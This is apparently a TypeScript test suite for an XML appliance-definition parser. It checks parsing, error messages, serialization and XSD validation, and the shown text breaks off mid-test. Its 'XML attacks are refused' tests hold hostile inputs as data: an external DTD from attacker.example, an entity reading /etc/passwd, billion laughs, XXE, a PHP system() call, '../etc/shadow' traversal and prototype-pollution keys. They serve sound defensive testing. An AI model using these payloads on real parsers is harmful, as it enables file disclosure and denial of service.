import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import {
  definitionJsonSchema,
  formatProblems,
  parseApplianceDefinition,
  serializeApplianceDefinition,
} from '../src/channel/definition.ts';
import type { ApplianceDefinition, DefinitionProblem, ParseResult } from '../src/channel/types.ts';

const here = dirname(fileURLToPath(import.meta.url));
const fixtures = join(here, 'fixtures', 'appliances');
const xsdPath = join(here, '..', 'src', 'channel', 'appliance-definition.xsd');
const moduleSource = join(here, '..', 'src', 'channel', 'definition.ts');
const moduleDir = join(here, '..', 'src', 'channel', 'definition');

const fixture = (kind: 'valid' | 'invalid', name: string): string => readFileSync(join(fixtures, kind, name), 'utf8');
const xmlFiles = (kind: 'valid' | 'invalid'): string[] => readdirSync(join(fixtures, kind)).filter((f) => f.endsWith('.xml')).sort();

function ok(r: ParseResult): ApplianceDefinition {
  if (!r.ok) assert.fail(`expected a valid definition, got:\n${formatProblems(r.problems)}`);
  return r.definition;
}

function problems(r: ParseResult): DefinitionProblem[] {
  if (r.ok) assert.fail('expected problems, got a valid definition');
  return r.problems;
}

/** The one problem at `path`; fails with all problems listed if there is not exactly one. */
function at(r: ParseResult, path: string): DefinitionProblem {
  const all = problems(r);
  const hits = all.filter((p) => p.path === path);
  assert.equal(hits.length, 1, `one problem at ${path} expected in:\n${formatProblems(all)}`);
  return hits[0]!;
}

const SHA_IMG = '2684d0e3d8c81ea74e7dbf651450a662414a483eb1521c66933d2749aab322bd';
const SHA_BASE = 'cae66afe3057e4eb553d161dd813fb8e53fc3493d0b0804fdc40214a589247de';

// One element per line, so a test can replace line N and know every line number.
const TEMPLATE = [
  "<?xml version='1.0' encoding='utf-8'?>", // 1
  "<appliance version='1.0'>", // 2
  '  <name>webserv</name>', // 3
  '  <label>Simple Web Server</label>', // 4
  '  <description>A very simple and efficient test web server.</description>', // 5
  '  <version>1.0.0-0</version>', // 6
  '  <size>1024</size>', // 7
  '  <url>https://images.example/webserv-1.0.0-0.qcow2</url>', // 8
  `  <sha256>${SHA_IMG}</sha256>`, // 9
  `  <base name='debian-12' url='https://images.example/debian-12.qcow2' sha256='${SHA_BASE}'/>`, // 10
  '  <hardware>', // 11
  '    <cpus>1</cpus>', // 12
  '    <memory>524288</memory>', // 13
  '    <ostype>linux</ostype>', // 14
  "    <disk name='hda1' type='system' file='sys.img'/>", // 15
  '  </hardware>', // 16
  '  <dependency>emailserv:1.0.0-0</dependency>', // 17
  '</appliance>', // 18
];

function doc(edits: Record<number, string> = {}): string {
  return TEMPLATE.map((l, i) => edits[i + 1] ?? l).join('\n') + '\n';
}

const parse = (edits: Record<number, string>): ParseResult => parseApplianceDefinition(doc(edits));

// The template's children backwards (hardware's too), for "order does not matter".
const REORDERED = [
  ...TEMPLATE.slice(0, 2),
  TEMPLATE[16],
  TEMPLATE[10],
  ...TEMPLATE.slice(11, 15).reverse(),
  TEMPLATE[15],
  ...TEMPLATE.slice(2, 10).reverse(),
  TEMPLATE[17],
].join('\n');

describe('valid definitions', () => {
  test("the paper's Figure 2, extended with storm's fields, parses to the expected object", () => {
    const def = ok(parseApplianceDefinition(fixture('valid', 'webserv.xml'), 'webserv.xml'));
    assert.deepEqual(def, {
      formatVersion: '1.0',
      name: 'webserv',
      label: 'Simple Web Server',
      description: 'A very simple and efficient test web server.',
      version: '1.0.0-0',
      sizeMib: 1024,
      image: {
        url: 'https://cs.colorado.edu/appliances/webserv.tgz',
        sha256: SHA_IMG,
        sig: 'https://cs.colorado.edu/appliances/webserv.asc',
      },
      base: { name: 'debian-12', url: 'https://images.example/debian-12.qcow2', sha256: SHA_BASE, sig: null },
      boot: null,
      provides: ['webserv'],
      webpanel: '/upload.php',
      hardware: {
        cpus: 1,
        memoryKib: 524288,
        ostype: 'linux',
        disks: [
          { name: 'hda1', type: 'system', file: 'sys.img', sizeMib: null },
          { name: 'hda3', type: 'swap', file: null, sizeMib: 128 },
          { name: 'hda2', type: 'user', file: null, sizeMib: 128 },
        ],
      },
      dependencies: [
        { name: 'emailserv', version: '1.0.0-0' },
        { name: 'firewall', version: null },
      ],
    });
  });

  test('every valid fixture parses, and their dependencies resolve among them', () => {
    const defs = xmlFiles('valid').map((f) => ok(parseApplianceDefinition(fixture('valid', f), f)));
    assert.deepEqual(defs.map((d) => d.name).sort(), ['emailserv', 'firewall', 'webserv']);
    const byName = new Map(defs.map((d) => [d.name, d]));
    for (const d of defs) {
      for (const dep of d.dependencies) {
        const target = byName.get(dep.name);
        assert.ok(target, `${d.name} depends on ${dep.name}, which is not a fixture`);
        if (dep.version !== null) assert.equal(target.version, dep.version);
      }
    }
  });

  test('entities, character references and CDATA are decoded exactly once', () => {
    const email = ok(parseApplianceDefinition(fixture('valid', 'emailserv.xml')));
    assert.equal(email.description, 'SMTP and IMAP for the appliances & users of the cloud, with a <webmail> panel.');
    assert.equal(email.image.url, 'https://images.example/emailserv-1.0.0-0.qcow2?mirror=eu&v=1');
    const fw = ok(parseApplianceDefinition(fixture('valid', 'firewall.xml')));
    assert.equal(fw.description, 'nftables in front of every other appliance; rules in /etc/nftables.conf & friends.');
    assert.equal(fw.boot?.cmdline, 'console=ttyS0 root=/dev/vda');
    const refs = ok(parse({ 4: '  <label>Caf&#233; &#x2603; &amp;amp; &quot;x&apos;</label>' }));
    assert.equal(refs.label, 'Café ☃ &amp; "x\'');
  });

  test('element order does not matter, and whitespace around values is ignored', () => {
    const def = ok(parseApplianceDefinition(REORDERED));
    assert.equal(def.name, 'webserv');
    const spaced = ok(parse({ 13: '    <memory>\n      524288\n    </memory>' }));
    assert.equal(spaced.hardware.memoryKib, 524288);
  });

  test('a BOM, CRLF line ends and the xsi schema-location attributes are accepted', () => {
    const withXsi = doc({
      2: "<appliance version='1.0' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:noNamespaceSchemaLocation='appliance-definition.xsd'>",
    });
    ok(parseApplianceDefinition('\uFEFF' + withXsi.replace(/\n/g, '\r\n')));
  });
});

describe("the paper's format, as written", () => {
  const paperFixture = (name: string): string => readFileSync(join(fixtures, 'paper', name), 'utf8');

  test('Figure 2 verbatim is valid: the name from the label, no sha256 (the site computes it), no base (a single layer)', () => {
    const def = ok(parseApplianceDefinition(paperFixture('figure-2.xml'), 'figure-2.xml'));
    assert.equal(def.name, 'simple-web-server');
    assert.equal(def.image.sha256, null);
    assert.equal(def.base, null);
    assert.equal(def.image.sig, 'https://cs.colorado.edu/appliances/webserv.asc');
    assert.deepEqual(def.hardware.disks.map((d) => d.type), ['system', 'swap', 'user']);
    assert.equal(def.webpanel, '/upload.php');
  });

  test('the name comes from whoever knows it (a feed), else the folders, else the label', () => {
    const figure2 = paperFixture('figure-2.xml');
    assert.equal(ok(parseApplianceDefinition(figure2, 'f', { name: 'webserv' })).name, 'webserv');
    for (const folders of [['webserv'], ['webserv', '1.0.0-0'], ['webserv-1.0.0-0'], ['channel', 'webserv']]) {
      assert.equal(ok(parseApplianceDefinition(figure2, 'f', { folders })).name, 'webserv', folders.join('/'));
    }
    // A folder that is not a name: the label decides.
    assert.equal(ok(parseApplianceDefinition(figure2, 'f', { folders: ['Web Server'] })).name, 'simple-web-server');
    // A <name> always wins.
    assert.equal(ok(parseApplianceDefinition(doc({}), 'f', { folders: ['other'] })).name, 'webserv');
  });

  test('a label makes a name: accents dropped, runs of anything else one hyphen, at most 63', () => {
    const named = (label: string) => parseApplianceDefinition(doc({ 3: '', 4: `  <label>${label}</label>` }));
    assert.equal(ok(named('Éclair — Mail &amp; Web 2.0')).name, 'eclair-mail-web-2-0');
    assert.equal(ok(named('x'.repeat(70))).name, 'x'.repeat(63));
    const p = at(named('☃☃☃'), '/appliance/name');
    assert.match(p.message, /^no <name>, and the label "☃☃☃" gives none.*<name>webserv<\/name>/);
  });

  test('each disk takes what its type becomes: the system disk a file (the image), swap and user disks a size', () => {
    const system = at(parse({ 15: "    <disk name='hda1' type='system' size='1024'/>" }), '/appliance/hardware/disk[1]');
    assert.equal(system.line, 15);
    assert.match(system.message, /system disk, which is the appliance's image: name its file/);
    assert.match(at(parse({ 15: "    <disk name='hda3' type='swap' file='swap.img'/>" }), '/appliance/hardware/disk[1]').message, /swap disk, a new empty volume.*size in MiB/);
    const two = at(parse({ 15: "    <disk name='hda1' type='system' file='sys.img'/><disk name='hdb' type='system' file='b.img'/>" }), '/appliance/hardware/disk[2]');
    assert.match(two.message, /second system disk; an appliance has one/);
  });

  test('a derived name is the name a dependency on itself is judged by', () => {
    const r = parseApplianceDefinition(doc({ 3: '', 17: '  <dependency>simple-web-server</dependency>' }));
    assert.match(at(r, '/appliance/dependency[1]').message, /cannot depend on itself/);
  });
});

describe('errors name the path, the line and the fix', () => {
  test('missing required elements are reported at the parent', () => {
    const p = at(parse({ 6: '' }), '/appliance/version');
    assert.equal(p.line, 2);
    assert.match(p.message, /^missing <version>: .*1\.0\.0-0/);
    const m = at(parse({ 13: '' }), '/appliance/hardware/memory');
    assert.equal(m.line, 11);
    assert.match(m.message, /missing <memory>.*KiB.*<memory>524288<\/memory>/);
    assert.deepEqual(
      problems(parse({ 11: '', 12: '', 13: '', 14: '', 15: '', 16: '' })).map((x) => x.path),
      ['/appliance/hardware'],
    );
  });

  test("memory in MB instead of the paper's KiB", () => {
    const p = at(parse({ 13: '    <memory>512MB</memory>' }), '/appliance/hardware/memory');
    assert.equal(p.line, 13);
    assert.equal(p.message, 'memory must be a whole number of KiB (the paper\'s unit), e.g. 524288 for 512 MiB; got "512MB"');
    assert.match(at(parse({ 13: '    <memory>2GB</memory>' }), '/appliance/hardware/memory').message, /got "2GB" \(for 2 GiB write 2097152\)$/);
    assert.match(at(parse({ 7: '  <size>1GB</size>' }), '/appliance/size').message, /MiB.*got "1GB"$/);
    assert.match(at(parse({ 7: '  <size>4 GiB</size>' }), '/appliance/size').message, /\(for 4 GiB write 4096\)$/);
    assert.match(at(parse({ 12: '    <cpus>0</cpus>' }), '/appliance/hardware/cpus').message, /at least 1.*got "0"/);
    assert.match(at(parse({ 12: '    <cpus>-1</cpus>' }), '/appliance/hardware/cpus').message, /got "-1"/);
    assert.match(at(parse({ 12: '    <cpus>1.5</cpus>' }), '/appliance/hardware/cpus').message, /whole number/);
    assert.match(at(parse({ 7: '  <size>99999999999999999999</size>' }), '/appliance/size').message, /whole number/);
  });

  test('a typo in an element name is an error that suggests the right name and lists the known ones', () => {
    const r = parse({ 4: '  <lable>Simple Web Server</lable>' });
    const p = at(r, '/appliance/lable');
    assert.equal(p.line, 4);
    assert.match(p.message, /unknown element <lable> in <appliance>: did you mean <label>\? known elements here are name, label, description/);
    // The typo message already says what is missing.
    assert.equal(problems(r).length, 1);
    const hw = at(parse({ 14: '    <os-type>linux</os-type>' }), '/appliance/hardware/os-type');
    assert.equal(hw.line, 14);
    assert.match(hw.message, /did you mean <ostype>\?.*cpus, memory, ostype, disk/);
    const far = at(parse({ 5: '  <description>x</description><colour>red</colour>' }), '/appliance/colour');
    assert.doesNotMatch(far.message, /did you mean/);
    assert.match(at(parse({ 7: '  <size>1024</size><cpus>1</cpus>' }), '/appliance/cpus').message, /<cpus> belongs directly inside <hardware>/);
  });

  test('a typo in an attribute name is an error too', () => {
    const p = at(parse({ 15: "    <disk name='hda1' tpye='system' file='sys.img'/>" }), '/appliance/hardware/disk[1]/@tpye');
    assert.equal(p.line, 15);
    assert.match(p.message, /unknown attribute tpye on <disk>: did you mean type\?/);
    assert.match(at(parse({ 3: "  <name lang='en'>webserv</name>" }), '/appliance/name/@lang').message, /takes no attributes/);
  });

  test('duplicates of single elements point at the second and name the first', () => {
    const p = at(parse({ 5: '  <name>other</name><description>x</description>' }), '/appliance/name[2]');
    assert.equal(p.line, 5);
    assert.match(p.message, /duplicate <name> \(the first is at line 3\).*exactly one <name>; remove one/);
    assert.match(at(parse({ 13: '    <memory>1</memory><memory>2</memory>' }), '/appliance/hardware/memory[2]').message, /duplicate <memory>/);
    assert.match(
      at(parse({ 15: "    <disk name='hda1' type='system' file='a.img'/><disk name='hda1' type='user' size='1'/>" }), '/appliance/hardware/disk[2]/@name').message,
      /duplicate disk name "hda1"/,
    );
  });

  test('a disk type outside the enum', () => {
    const p = at(parse({ 15: "    <disk name='hda1' type='data' file='sys.img'/>" }), '/appliance/hardware/disk[1]/@type');
    assert.equal(p.line, 15);
    assert.equal(p.message, 'disk type must be one of system, swap, user; got "data"');
    assert.match(at(parse({ 15: "    <disk name='hda1' type='Swap' size='1'/>" }), '/appliance/hardware/disk[1]/@type').message, /did you mean swap\?/);
  });

  test('a disk needs exactly one of file and size', () => {
    assert.match(at(parse({ 15: "    <disk name='hda1' type='user'/>" }), '/appliance/hardware/disk[1]').message, /needs file=.*or size=/);
    assert.match(at(parse({ 15: "    <disk name='hda1' type='user' file='a.img' size='1'/>" }), '/appliance/hardware/disk[1]').message, /either file .* or size .*not both/);
    assert.match(at(parse({ 15: "    <disk name='hda1' type='system' file='../etc/shadow'/>" }), '/appliance/hardware/disk[1]/@file').message, /plain file name/);
    assert.match(at(parse({ 15: "    <disk name='hda1' type='user' size='128M'/>" }), '/appliance/hardware/disk[1]/@size').message, /whole number of MiB.*got "128M" \(for 128 MiB write 128\)$/);
  });

  test('bad dependencies', () => {
    const space = at(parse({ 17: '  <dependency>emailserv 1.0</dependency>' }), '/appliance/dependency[1]');
    assert.equal(space.line, 17);
    assert.match(space.message, /^dependency must be name\[:version\], e\.g\. emailserv:1\.0\.0-0 or firewall; separate name and version with ':'/);
    assert.match(at(parse({ 17: '  <dependency>EmailServ:1</dependency>' }), '/appliance/dependency[1]').message, /the name "EmailServ" is not an appliance name/);
    assert.match(at(parse({ 17: '  <dependency>emailserv:</dependency>' }), '/appliance/dependency[1]').message, /the version "" is not a version/);
    assert.match(at(parse({ 17: '  <dependency>emailserv:1:2</dependency>' }), '/appliance/dependency[1]').message, /the version "1:2"/);
    assert.match(at(parse({ 17: '  <dependency>webserv</dependency>' }), '/appliance/dependency[1]').message, /cannot depend on itself/);
    assert.match(at(parse({ 17: '  <dependency>firewall</dependency><dependency>firewall:2</dependency>' }), '/appliance/dependency[2]').message, /duplicate dependency on firewall \(first at line 17\)/);
    assert.match(at(parse({ 17: '  <dependency/>' }), '/appliance/dependency[1]').message, /is empty.*emailserv:1\.0\.0-0/);
  });

  test('bad sha256 values say what is wrong with them', () => {
    const p = at(parse({ 9: `  <sha256>${SHA_IMG.toUpperCase()}</sha256>` }), '/appliance/sha256');
    assert.equal(p.line, 9);
    assert.match(p.message, /^sha256 must be 64 lowercase hex digits.*\(write it in lowercase\)/);
    assert.match(at(parse({ 9: `  <sha256>${SHA_IMG.slice(1)}</sha256>` }), '/appliance/sha256').message, /63 hex digits, not 64/);
    assert.match(at(parse({ 9: `  <sha256>sha256:${SHA_IMG}</sha256>` }), '/appliance/sha256').message, /leave out the "sha256:" prefix/);
    const base = at(parse({ 10: "  <base name='debian-12' url='https://images.example/debian-12.qcow2' sha256='nope'/>" }), '/appliance/base/@sha256');
    assert.equal(base.line, 10);
  });

  test('urls must be absolute http(s)', () => {
    const p = at(parse({ 8: '  <url>images/webserv.qcow2</url>' }), '/appliance/url');
    assert.equal(p.line, 8);
    assert.equal(
      p.message,
      'url must be an absolute http:// or https:// URL, e.g. https://images.example/webserv-1.0.0-0.qcow2; got "images/webserv.qcow2"',
    );
    assert.match(at(parse({ 8: '  <url>ftp://images.example/w.qcow2</url>' }), '/appliance/url').message, /only http and https/);
    assert.match(at(parse({ 8: '  <url>https://user:pw@images.example/w.qcow2</url>' }), '/appliance/url').message, /no user:password@/);
    assert.match(at(parse({ 8: '  <url>https:///w.qcow2</url>' }), '/appliance/url').message, /absolute/);
    assert.match(
      at(parse({ 10: "  <base name='debian-12' url='/debian-12.qcow2' sha256='" + SHA_BASE + "'/>" }), '/appliance/base/@url').message,
      /the base url must be an absolute/,
    );
  });

  test('names, versions, webpanel and ostype formats', () => {
    assert.match(at(parse({ 3: '  <name>Web Server</name>' }), '/appliance/name').message, /e\.g\. "web-server"; got "Web Server"/);
    assert.match(at(parse({ 3: '  <name>-web</name>' }), '/appliance/name').message, /not starting or ending with a hyphen/);
    ok(parse({ 3: `  <name>${'a'.repeat(63)}</name>` }));
    assert.ok(problems(parse({ 3: `  <name>${'a'.repeat(64)}</name>` })).length === 1);
    assert.match(at(parse({ 6: '  <version>1.0 beta</version>' }), '/appliance/version').message, /no spaces or ':'/);
    assert.match(at(parse({ 5: '  <description>  </description>' }), '/appliance/description').message, /<description> is empty/);
    assert.match(at(parse({ 5: '  <description>x</description><webpanel>upload.php</webpanel>' }), '/appliance/webpanel').message, /starting with "\/"/);
    assert.match(at(parse({ 14: '    <ostype>Linux 6</ostype>' }), '/appliance/hardware/ostype').message, /lowercase OS type/);
    assert.match(at(parse({ 3: '  <name><b>webserv</b></name>' }), '/appliance/name/b').message, /holds text only/);
    assert.match(at(parse({ 10: `  <base name='debian-12' url='https://i.example/d.qcow2' sha256='${SHA_BASE}'>text</base>` }), '/appliance/base').message, /attributes only/);
    assert.match(at(parse({ 10: "  <base name='debian-12' url='https://i.example/d.qcow2'/>" }), '/appliance/base/@sha256').message, /missing the sha256 attribute/);
    assert.match(at(parse({ 11: '  <hardware>stray' }), '/appliance/hardware').message, /unexpected text "stray"/);
  });

  test('a boot element needs kernel and initrd with checksums', () => {
    const r = parse({ 15: "    <disk name='hda1' type='system' file='sys.img'/>", 16: "  </hardware><boot kernel='https://i.example/vmlinuz' initrd='initrd.img' cmdline='console=ttyS0'/>" });
    const all = problems(r).map((p) => [p.path, p.line]);
    assert.deepEqual(all, [
      ['/appliance/boot/@kernel-sha256', 16],
      ['/appliance/boot/@initrd-sha256', 16],
      ['/appliance/boot/@initrd', 16],
    ]);
  });

  test('the root must be <appliance version=\'1.0\'>', () => {
    const future = problems(parseApplianceDefinition("<appliance version='2.0'><hologram/></appliance>"));
    assert.equal(future.length, 1, 'a newer format gets one clear problem, not a pile of spurious ones');
    assert.equal(future[0]!.path, '/appliance/@version');
    assert.match(future[0]!.message, /format version "2.0" is not supported: this storm reads version '1.0'.*upgrade storm/);
    assert.match(at(parse({ 2: '<appliance>' }), '/appliance/@version').message, /write <appliance version='1.0'>/);
    assert.match(at(parseApplianceDefinition('<vm version="1.0"/>'), '/vm').message, /root element must be <appliance version='1.0'>; got <vm>/);
    assert.match(at(parse({ 2: "<appliance version='1.0' lang='en'>" }), '/appliance/@lang').message, /unknown attribute lang/);
  });

  test('XML syntax errors get the line and column of the error, in a publisher\'s words', () => {
    const p = problems(parse({ 13: '    <memory>524288</memroy>' }));
    assert.equal(p.length, 1);
    assert.deepEqual([p[0]!.line, p[0]!.column], [13, 19]);
    assert.equal(p[0]!.message, '</memroy> does not match the open <memory> (line 13); write </memory>');
    assert.match(problems(parseApplianceDefinition(''))[0]!.message, /is empty/);
    assert.deepEqual(
      problems(parseApplianceDefinition('just text')).map((q) => q.message.split(' (')[0]!.split(';')[0]),
      ['text outside the <appliance> element', "no root element"],
    );
    const nbsp = at(parse({ 4: '  <label>Fish &nbsp; Chips</label>' }), '/appliance/label');
    assert.equal(nbsp.line, 4);
    assert.match(nbsp.message, /undefined entity &nbsp;.*no DTD/);
    assert.match(at(parse({ 10: `  <base name='debian-12' url='https://i.example/d.qcow2?a=1&b=2' sha256='${SHA_BASE}'/>` }), '/appliance/base/@url').message, /bare "&" must be written &amp;/);
    assert.deepEqual(
      problems(parse({ 4: '  <label>x</label><extra>&bogus;</extra>' })).map((p) => [p.path, p.message.split(' ').slice(0, 2).join(' ')]),
      [
        ['/appliance/extra', 'unknown element'],
        ['/appliance/extra', 'undefined entity'],
      ],
    );
    assert.match(at(parse({ 4: "  <label>A</label><x a='1 < 2'/>" }), '/').message, /raw "<"; write it as &lt;/);
    assert.match(at(parseApplianceDefinition("<appliance version='1.0'/>\ntrailing words"), '/').message, /text outside the <appliance> element \("trailing words"\)/);
    assert.match(at(parseApplianceDefinition(doc() + 'trailing words'), '/').message, /text outside the <appliance> element \("trailing words"\)/);
    assert.match(problems(parseApplianceDefinition(doc() + '<appliance version="1.0"/>')).at(-1)!.message, /second root element/);
    assert.match(at(parse({ 4: '  <label>bell\u0007</label>' }), '/').message, /control character U\+0007/);
  });

  test('several problems are reported at once, in line order', () => {
    const r = parseApplianceDefinition(fixture('invalid', 'many-errors.xml'), 'many-errors.xml');
    const expected = JSON.parse(fixture('invalid', 'expected.json')) as Record<string, [string, number][]>;
    assert.deepEqual(problems(r).map((p) => [p.path, p.line]), expected['many-errors.xml']);
  });

  test('every invalid fixture reports exactly the problems listed in expected.json', () => {
    const expected = JSON.parse(fixture('invalid', 'expected.json')) as Record<string, [string, number][]>;
    for (const f of xmlFiles('invalid')) {
      assert.ok(expected[f], `${f} needs an entry in expected.json`);
      assert.deepEqual(problems(parseApplianceDefinition(fixture('invalid', f), f)).map((p) => [p.path, p.line]), expected[f], f);
    }
  });

  test('an attribute on a continuation line of a start tag gets its own line', () => {
    const r = parseApplianceDefinition(fixture('invalid', 'many-errors.xml'));
    assert.equal(at(r, '/appliance/base/@sha256').line, 11);
  });
});

describe('XML attacks are refused', () => {
  const DOCTYPE_MESSAGE = /^DOCTYPE declarations and entities are not allowed in appliance definitions/;

  test('billion laughs: one problem, nothing expanded, fast', () => {
    const started = performance.now();
    const p = problems(parseApplianceDefinition(fixture('invalid', 'billion-laughs.xml')));
    assert.ok(performance.now() - started < 1000);
    assert.equal(p.length, 1);
    assert.equal(p[0]!.line, 2);
    assert.match(p[0]!.message, DOCTYPE_MESSAGE);
    assert.match(p[0]!.message, /billion laughs/);
  });

  test('XXE: refused without reading the file', () => {
    const p = problems(parseApplianceDefinition(fixture('invalid', 'xxe.xml')));
    assert.equal(p.length, 1);
    assert.equal(p[0]!.line, 2);
    assert.match(p[0]!.message, DOCTYPE_MESSAGE);
    assert.match(p[0]!.message, /XXE/);
    assert.doesNotMatch(JSON.stringify(p), /root:/);
  });

  test('any DOCTYPE or ENTITY declaration, anywhere, in any case', () => {
    for (const [xml, line] of [
      ['<!DOCTYPE appliance>\n<appliance version="1.0"/>', 1],
      [doc({ 5: '  <!doctype appliance>' }), 5],
      [doc({ 5: '  <!-- <!DOCTYPE x> -->' }), 5],
      [doc({ 5: '  <!ENTITY x SYSTEM "file:///etc/passwd">' }), 5],
      ['<?xml version="1.0"?>\n<!DOCTYPE appliance SYSTEM "http://attacker.example/evil.dtd">\n<appliance version="1.0"/>', 2],
    ] as const) {
      const p = problems(parseApplianceDefinition(xml));
      assert.equal(p.length, 1, xml);
      assert.equal(p[0]!.line, line, xml);
      assert.match(p[0]!.message, DOCTYPE_MESSAGE);
    }
  });

  test('processing instructions other than the XML declaration are refused', () => {
    const p = at(parseApplianceDefinition("<?xml version='1.0'?>\n<?xml-stylesheet href='x.xsl'?>\n" + doc().split('\n').slice(1).join('\n')), '/');
    assert.equal(p.line, 2);
    assert.match(p.message, /processing instruction <\?xml-stylesheet …\?> is not allowed/);
    assert.equal(at(parse({ 12: '    <?php system("id") ?><cpus>1</cpus>' }), '/').line, 12);
    assert.match(problems(parseApplianceDefinition(' ' + doc()))[0]!.message, /the XML declaration must be the very first thing in the file/);
  });

  test('inputs over 1 MiB are refused before parsing', () => {
    const big = doc().replace('</appliance>', `<!-- ${'x'.repeat(2 * 1024 * 1024)} --></appliance>`);
    const started = performance.now();
    const p = problems(parseApplianceDefinition(big, 'big.xml'));
    assert.ok(performance.now() - started < 1000);
    assert.deepEqual(p, [
      { path: '/', line: null, column: null, message: 'big.xml is 2.0 MiB; appliance definitions are limited to 1 MiB (they are metadata: the image itself goes behind <url>)' },
    ]);
    // Bytes, not characters: 400k euro signs are 1.2 MB of UTF-8.
    assert.match(problems(parse({ 5: `  <description>${'€'.repeat(400_000)}</description>` }))[0]!.message, /limited to 1 MiB/);
    // Just under the limit is fine.
    ok(parseApplianceDefinition(doc().replace('</appliance>', `<!-- ${'x'.repeat(1000 * 1024)} --></appliance>`)));
  });

  test('hostile shapes produce problems, never exceptions', () => {
    const deep = doc({ 16: '  </hardware>' + '<x>'.repeat(500) + '</x>'.repeat(500) });
    assert.ok(problems(parseApplianceDefinition(deep)).length >= 1);
    const proto = parse({ 4: '  <label>x</label><__proto__>1</__proto__>' });
    assert.ok(problems(proto).length >= 1);
    assert.ok(problems(parse({ 4: "  <label constructor='1'>x</label>" })).length >= 1);
    assert.equal(({} as Record<string, unknown>)['polluted'], undefined);
  });

  test('the module is pure: it imports nothing but its types and the shared rules (no parser package)', () => {
    // definition.ts is the entry; its modules live in definition/ and may import one another.
    const modules = [moduleSource, ...readdirSync(moduleDir).filter((f) => f.endsWith('.ts')).map((f) => join(moduleDir, f))];
    const outside = new Set<string>();
    for (const file of modules) {
      for (const m of readFileSync(file, 'utf8').matchAll(/^(?:import|export)\s[^;]*?from\s+'([^']+)'/gms)) {
        const spec = m[1]!;
        const resolved = spec.startsWith('.') ? join(dirname(file), spec) : spec;
        if (!resolved.startsWith(moduleDir + '/')) outside.add(resolved.startsWith('/') ? relative(join(here, '..', 'src'), resolved) : resolved);
      }
    }
    assert.deepEqual([...outside].sort(), ['channel/types.ts', 'rules.ts']);
  });
});

describe('formatProblems', () => {
  test('one line per problem: file:line:column: path: message', () => {
    const r = parse({ 13: '    <memory>512MB</memory>', 8: '  <url>images/webserv.qcow2</url>' });
    assert.equal(
      formatProblems(problems(r), 'appliance.xml'),
      [
        'appliance.xml:8:8: /appliance/url: url must be an absolute http:// or https:// URL, e.g. https://images.example/webserv-1.0.0-0.qcow2; got "images/webserv.qcow2"',
        'appliance.xml:13:13: /appliance/hardware/memory: memory must be a whole number of KiB (the paper\'s unit), e.g. 524288 for 512 MiB; got "512MB"',
      ].join('\n'),
    );
    assert.equal(formatProblems([{ path: '/', line: null, column: null, message: 'too big' }]), '<definition>: /: too big');
    assert.equal(formatProblems([{ path: '/', line: 3, column: null, message: 'x' }], 'a.xml'), 'a.xml:3: /: x');
    assert.equal(formatProblems([]), '');
  });
});

describe('serializeApplianceDefinition', () => {
  test('round trip: parse(serialize(def)) deep-equals def, and serializing is stable', () => {
    for (const f of xmlFiles('valid')) {
      const def = ok(parseApplianceDefinition(fixture('valid', f)));
      const xml = serializeApplianceDefinition(def);
      assert.deepEqual(ok(parseApplianceDefinition(xml)), def, f);
      assert.equal(serializeApplianceDefinition(ok(parseApplianceDefinition(xml))), xml, f);
    }
  });

  test('awkward characters survive the round trip', () => {
    const def = ok(parseApplianceDefinition(fixture('valid', 'firewall.xml')));
    const tricky: ApplianceDefinition = {
      ...def,
      label: `Tom's "Firewall" <&> ]]> ☃`,
      description: 'line one\nline two\twith a tab & an <angle>',
      boot: def.boot && { ...def.boot, cmdline: `console=ttyS0 quiet init='/bin/sh -c "x"' a&b<c>\n` },
    };
    const xml = serializeApplianceDefinition(tricky);
    assert.deepEqual(ok(parseApplianceDefinition(xml)), { ...tricky, boot: { ...tricky.boot!, cmdline: tricky.boot!.cmdline.trim() } });
  });

  test('writes the format with single-quoted attributes, in the documented element order', () => {
    const xml = serializeApplianceDefinition(ok(parseApplianceDefinition(fixture('valid', 'webserv.xml'))));
    assert.ok(xml.startsWith("<?xml version='1.0' encoding='utf-8'?>\n<appliance version='1.0'>\n  <name>webserv</name>\n"));
    assert.match(xml, /<disk name='hda3' type='swap' size='128'\/>/);
    const order = [...xml.matchAll(/^ {2}<([a-z0-9]+)/gm)].map((m) => m[1]);
    assert.deepEqual(order, ['name', 'label', 'description', 'version', 'size', 'url', 'sha256', 'sig', 'base', 'provides', 'webpanel', 'hardware', 'dependency', 'dependency']);
  });
});

// ---------------------------------------------------------------------------------------------

const hasXmllint = spawnSync('xmllint', ['--version']).status === 0;

function xmllint(xml: string): { ok: boolean; lines: number[]; output: string } {
  const dir = mkdtempSync(join(tmpdir(), 'storm-xsd-'));
  try {
    const file = join(dir, 'appliance.xml');
    writeFileSync(file, xml);
    // --nonet: even on a fixture gone wrong, xmllint must not fetch anything.
    const r = spawnSync('xmllint', ['--noout', '--nonet', '--schema', xsdPath, file], { encoding: 'utf8' });
    const lines = [...r.stderr.matchAll(/appliance\.xml:(\d+): element .*Schemas validity error/g)].map((m) => Number(m[1]));
    return { ok: r.status === 0, lines, output: r.stderr };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describe('appliance-definition.xsd', { skip: hasXmllint ? false : 'xmllint not installed (apt-get install libxml2-utils)' }, () => {
  test('validates every valid fixture and every serialized definition', () => {
    for (const f of xmlFiles('valid')) {
      const xml = fixture('valid', f);
      assert.ok(xmllint(xml).ok, `${f}: ${xmllint(xml).output}`);
      const out = serializeApplianceDefinition(ok(parseApplianceDefinition(xml)));
      assert.ok(xmllint(out).ok, `serialized ${f}: ${xmllint(out).output}`);
    }
    assert.ok(xmllint(REORDERED).ok, 'order-free, like the validator');
  });

  test('rejects invalid fixtures, at lines where the validator also reports a problem', () => {
    // The attacks are not fed to another parser; no-base.xml is "missing elements", which
    // XSD 1.0 cannot express for an order-free format (see the XSD's header).
    for (const f of xmlFiles('invalid').filter((x) => !['billion-laughs.xml', 'xxe.xml'].includes(x))) {
      const xml = fixture('invalid', f);
      const lint = xmllint(xml);
      assert.equal(lint.ok, false, `${f} should fail the XSD`);
      assert.ok(lint.lines.length > 0, lint.output);
      // For a newer format the validator deliberately says only "unsupported version".
      if (f === 'future-format.xml') continue;
      const ours = new Set(problems(parseApplianceDefinition(xml)).map((p) => p.line));
